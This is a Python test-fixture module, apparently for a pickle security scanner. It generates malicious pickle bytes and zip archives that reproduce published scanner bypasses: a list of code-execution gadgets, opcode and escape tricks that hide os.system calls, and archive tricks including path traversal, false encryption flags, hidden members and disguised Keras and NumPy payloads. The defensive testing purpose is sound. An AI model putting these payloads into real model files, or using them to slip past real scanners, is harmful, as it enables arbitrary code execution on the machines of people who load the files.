# SPDX-License-Identifier: Apache-2.0
"""Published ways past scanners of pickles, as bytes. Made here, judged by the tests, loaded by nobody."""

from __future__ import annotations

import io
import pickle
import struct
import zipfile

GADGETS = """
os.system posix.system nt.system subprocess.Popen builtins.eval builtins.exec builtins.compile builtins.__import__
builtins.getattr builtins.open builtins.globals builtins.breakpoint pip.main pip._internal.main ensurepip._run_pip
runpy._run_code runpy.run_path pydoc.pipepager pydoc.locate venv.create timeit.timeit timeit.Timer trace.Trace
cProfile.run cProfile.runctx profile.Profile.run profile.Profile.runctx profile.run bdb.Bdb.run pdb.run
code.InteractiveInterpreter.runcode code.InteractiveInterpreter.runsource doctest.debug_script doctest.debug_src
asyncio.unix_events._UnixSubprocessTransport._start _posixsubprocess.fork_exec multiprocessing.util.spawnv_passfds
lib2to3.pgen2.grammar.Grammar.loads lib2to3.pgen2.pgen.ParserGenerator.make_label idlelib.run.Executive.runcode
idlelib.autocomplete.AutoComplete.get_entity idlelib.autocomplete.AutoComplete.fetch_completions
idlelib.calltip.Calltip.fetch_tip idlelib.calltip.get_entity idlelib.debugobj.ObjectTreeItem.SetText
idlelib.pyshell.ModifiedInterpreter.runcode idlelib.pyshell.ModifiedInterpreter.runcommand
distutils.file_util.write_file distutils.spawn.spawn uuid._get_command_stdout imaplib.IMAP4_stream
_pyrepl.pager.pipe_pager _osx_support._read_output _aix_support._read_cmd_output test.support.script_helper.spawn_python
pkgutil.resolve_name importlib.import_module importlib.util.module_from_spec marshal.loads pickle.loads _pickle.loads
pickle.Unpickler dill.loads cloudpickle.cloudpickle._make_function types.CodeType types.FunctionType io.FileIO
logging.FileHandler logging.config.fileConfig urllib.request.urlopen socket.create_connection httplib.HTTPSConnection
webbrowser.open shutil.rmtree ctypes.CDLL ctypes.cdll operator.attrgetter operator.methodcaller functools.partial
functools.reduce itertools.starmap codecs.decode shelve.open sqlite3.connect smtplib.SMTP ssl.get_server_certificate
linecache.getlines numpy.load numpy.f2py.crackfortran.getlincoef numpy.f2py.crackfortran.myeval
numpy.testing._private.utils.runstring numpy.testing._private.utils.measure numpy.ctypeslib.load_library
numpy.distutils.exec_command.exec_command numpy.core.records.fromfile pandas.read_pickle pandas.eval
pandas.core.computation.eval.eval joblib.load joblib.numpy_pickle.load sklearn.utils.parallel._FuncWrapper
sklearn.externals.joblib.load scipy.io.loadmat torch.load torch.serialization.load torch.hub.load torch.jit.load
torch._dynamo.guards.GuardBuilder.get torch._inductor.codecache.compile_file torch.utils.collect_env.run
torch.utils.collect_env.run_and_read_all torch.utils.bottleneck.__main__.run_cprofile
torch.utils.bottleneck.__main__.run_autograd_prof
torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression
torch.utils.data.datapipes.utils.decoder.basichandlers torch.jit.unsupported_tensor_ops.execWrapper
torch.utils._config_module.ConfigModule.load_config torch._tensor._rebuild_from_type_v2 torch.package.PackageImporter
torch.nn.modules.module.torch.load keras.models.load_model tensorflow.io.write_file transformers.pipeline
xgboost.core.ctypes.CDLL lightgbm.basic.ctypes.CDLL __main__.Model mypackage.Model
""".split()  # noqa: SIM905 - a list to read
"""Callables that published bypasses used (advisories of picklescan, modelscan, fickling, CVE-2025-1716 and after)."""


def call(gadget: str, protocol: int) -> bytes:
    """A pickle that calls a gadget with one text."""
    module, name = _split(gadget)
    argument = b"V__import__('os').system('true')\n"
    if protocol < 4:
        mark = b"\x80" + bytes([protocol]) if protocol >= 2 else b""
        return mark + f"c{module}\n{name}\n".encode() + b"(" + argument + b"tR."
    texts = b"".join(b"\x8c" + bytes([len(text)]) + text.encode() + b"\x94" for text in (module, name))
    return b"\x80" + bytes([protocol]) + texts + b"\x93" + argument + b"\x85R."


def _split(gadget: str) -> tuple[str, str]:
    """os.system -> os, system; bdb.Bdb.run -> bdb, Bdb.run."""
    words = gadget.split(".")
    cut = next((i for i, word in enumerate(words[:-1]) if i and word[0].isupper()), len(words) - 1)
    return ".".join(words[:cut]), ".".join(words[cut:])


EVIL = call("os.system", 4)
OLD = b"cos\nsystem\n(Vtrue\ntR."


def tricks() -> dict[str, bytes]:
    """Pickles that hide what they import or that they are pickles."""
    return {
        "memo_confusion": b"\x80\x04\x8c\x02os\x8c\x06systemq\x010q\x000\x8c\x05torchq\x05\x940\x8c\x06Tensor"
        b"\x940h\x00h\x01\x93Vx\n\x85R.",
        "put_and_memoize": b"(Vos\np7\nVsystem\np8\n1g7\ng8\n\x93(Vx\ntR.",
        "dup_and_pop": b"\x80\x04\x8c\x02os20\x8c\x06system\x93Vx\n\x85R.",
        "escapes_in_unicode": b"V\\u006fs\nV\\u0073ystem\n\x93(Vx\ntR.",
        "escapes_in_string": b"S'\\x6f\\x73'\nS'system'\n\x93(Vx\ntR.",
        "name_built_at_run_time": b"c_codecs\nencode\n(Vos\nVlatin1\ntRVsystem\n\x93(Vx\ntR.",
        "name_by_str": b"cbuiltins\nstr\n(Vos\ntRVsystem\n\x93(Vx\ntR.",
        "number_in_hex_first": b"I0x1\n0" + OLD,
        "number_with_a_zero_byte": b"I1\0x\n0" + OLD,
        "long_number_in_octal": b"L0o17L\n0" + OLD,
        "a_line_of_two_megabytes_first": b"V" + b"a" * (2 << 20) + b"\n0" + OLD,
        "a_long_blob_first": b"X" + struct.pack("<I", 70_000) + b"a" * 70_000 + b"0" + OLD,
        "inst": b"(Vtrue\nios\nsystem\n.",
        "obj": b"(cos\nsystem\nVtrue\no.",
        "newobj": b"\x80\x02cos\nsystem\nVtrue\n\x85\x81.",
        "newobj_ex": b"\x80\x04cos\nsystem\nVtrue\n\x85}\x92.",
        "no_stop": OLD[:-1],
        "garbage_behind": OLD + b"\xff\xff\xff",
        "broken_after_the_call": OLD[:-1] + b"\xff",
        "second_pickle": pickle.dumps([1]) + EVIL,
        "third_pickle_after_padding": pickle.dumps(1) + pickle.dumps(2) + OLD,
        "import_only": b"\x80\x02cantigravity\nx\n.",
        "module_attributes_changed": b"\x80\x04Vtorch\nV_utils\n\x93}Vbuiltins\nVx\nsb.",
        "class_attributes_changed": b"cdecimal\nDecimal\n}Vx\ncos\nsystem\nsb.",
        "reconstructor_of_foreign": b"ccopyreg\n_reconstructor\n(csubprocess\nPopen\ncbuiltins\nobject\nNtR.",
        "factory": b"ccollections\ndefaultdict\n(cos\nsystem\ntR.",
        "codec_import": b"c_codecs\nencode\n(Vx\nVrot13\ntR.",
        "generator_calls_a_class": b"cnumpy.random._pickle\n__generator_ctor\n(VMT19937\nccollections\nCounter\ntR.",
        "value_called": b"ctorch.nn.functional\nrelu\n(Vx\ntR.",
        "dunder_set": b"\x80\x02cdecimal\nDecimal\n(tRN}V__class__\ncdecimal\nDecimal\ns\x86b.",
        "dotted_under_a_listed_module": b"\x80\x04\x8c\x05numpy\x8c\x0edtype.__init__\x93)R.",
        "torch_bytes_inside": b"\x80\x02ctorch.storage\n_load_from_bytes\nB" + struct.pack("<I", len(b"\x80\x02" + OLD))
        + b"\x80\x02" + OLD + b"\x85R.",
        "memory_by_number": b"cbuiltins\nbytearray\n(I99999999999\ntR.",
        "dtype_that_hides_objects": b"\x80\x02cnumpy\ndtype\nVV8\n\x85R(K\x03V|\nN(Va\nt}Va\ncnumpy\ndtype\nVO8\n"
        b"\x85RK\0\x86"
        b"sK\x08K\x01K\0tb.",
        "torch_magic_by_eval": b"\x80\x02cbuiltins\neval\nX\x01\0\0\x001\x85R." + OLD,
    }  # fmt: skip


def zipped(*members: tuple[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    """An archive."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name), data, method)
    return buffer.getvalue()


def archives() -> dict[str, bytes]:
    """Archives that show different readers different things, or hide a pickle under a name."""
    plain = zipped(("data.pkl", EVIL))
    harmless = zipped(("data.pkl", pickle.dumps([1])))
    nested = zipped(("inner.bin", zipped(("x.png", EVIL))))
    hidden = harmless.replace(b"PK\x01\x02", b"PK\x01\x02", 1)
    end = harmless.rindex(b"PK\5\6")
    begin = struct.unpack_from("<I", harmless, end + 16)[0]
    local = plain[: plain.index(b"PK\x01\x02")]
    moved = harmless[:begin] + local + hidden[begin:]
    fields = list(struct.unpack_from("<HHHHIIH", moved, end + len(local) + 4))
    fields[5] = begin + len(local)
    moved = moved[: end + len(local) + 4] + struct.pack("<HHHHIIH", *fields)
    return {
        "wrong_ending": zipped(("readme.txt", EVIL)),
        "no_ending": zipped(("weights", EVIL)),
        "deflated": zipped(("a/data.pkl", EVIL), method=zipfile.ZIP_DEFLATED),
        "bzip2": zipped(("a/data.pkl", EVIL), method=zipfile.ZIP_BZIP2),
        "nested": nested,
        "torch_storage": zipped(("archive/data.pkl", pickle.dumps({})), ("archive/data/0", OLD)),
        "crc_wrong": plain.replace(b"'true'", b"'trux'"),
        "local_name": plain.replace(b"data.pkl", b"datap.kl", 1),
        "flag_encrypted": plain[:6] + b"\1\0" + plain[8:],
        "both_flags_encrypted": _flagged(plain, 0x1),
        "flag_strong": _flagged(plain, 0x40),
        "flag_patch": _flagged(plain, 0x20),
        "pickle_before": OLD + plain,
        "pickle_before_harmless": OLD + harmless,
        "data_behind": harmless + OLD,
        "unlisted_member": moved,
        "two_of_a_name": _doubled(),
        "leads_out": zipped(("../../x.pkl", pickle.dumps(1))),
        "two_ends": harmless[:-2] + struct.pack("<H", len(plain)) + plain,
        "keras_lambda": zipped(("config.json", b'{"config":{"layers":[{"class_name":"L\\u0061mbda"}]}}')),
        "keras_module": zipped(
            ("config.json", b'{"module":"os","class_name":"function","config":"system","registered_name":"x"}')
        ),
        "npz_objects": zipped(("a.npy", npy("|O", OLD))),
        "npz_objects_hidden_in_fields": zipped(("a.npy", npy([("a", "<f8"), ("b", "|O")], OLD))),
        "npz_objects_in_commas": zipped(("a.npy", npy("f8,O", OLD))),
    }


def npy(kind: object, data: bytes) -> bytes:
    """An array's file with a header of our own."""
    header = repr({"descr": kind, "fortran_order": False, "shape": (1,)}).encode()
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    return b"\x93NUMPY\x01\0" + struct.pack("<H", len(header)) + header + data


def _flagged(data: bytes, flag: int) -> bytes:
    central = data.index(b"PK\x01\x02")
    bits = struct.pack("<H", flag)
    return data[:6] + bits + data[8 : central + 8] + bits + data[central + 10 :]


def _doubled() -> bytes:
    data = zipped(("a.pkl", pickle.dumps(1)), ("b.pkl", pickle.dumps(2)))
    return data.replace(b"b.pkl", b"a.pkl")
